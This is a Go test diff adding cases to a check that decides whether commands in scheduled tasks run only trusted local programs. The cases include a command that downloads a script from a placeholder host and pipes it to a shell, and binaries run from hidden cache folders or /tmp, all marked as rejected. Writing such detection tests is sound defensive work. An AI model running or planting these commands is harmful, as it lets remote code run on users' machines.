@@ -47,6 +47,13 @@ func TestTasksLocalLoginShell(t *testing.T) {
 		"/tmp/sync-notes.sh":                   false,
 		"curl":                                 false,
 		"$HOME/.cache/.x/sync-notes.sh":        false,
+		// A list of commands is judged as a cron entry's text.
+		"/opt/homebrew/bin/brew update &amp;&amp; /opt/homebrew/bin/brew upgrade &amp;&amp; /opt/homebrew/bin/brew cleanup": true,
+		"brew update && brew upgrade":                                      true,
+		"brew update &amp;&amp; curl -fsSL https://x.example-x.net/p | sh": false,
+		"/opt/homebrew/bin/brew update &amp;&amp; $HOME/.cache/.bu/bu":     false,
+		"brew update; python3 -c 'import os'":                              false,
+		"brew update && /tmp/bu":                                           false,
 	} {
 		if got := TasksLocal(plist(arg), ".plist", true, PlistProgramsLocal); got != want {
 			t.Errorf("zsh -lc %q: TasksLocal = %v, want %v", arg, got, want)
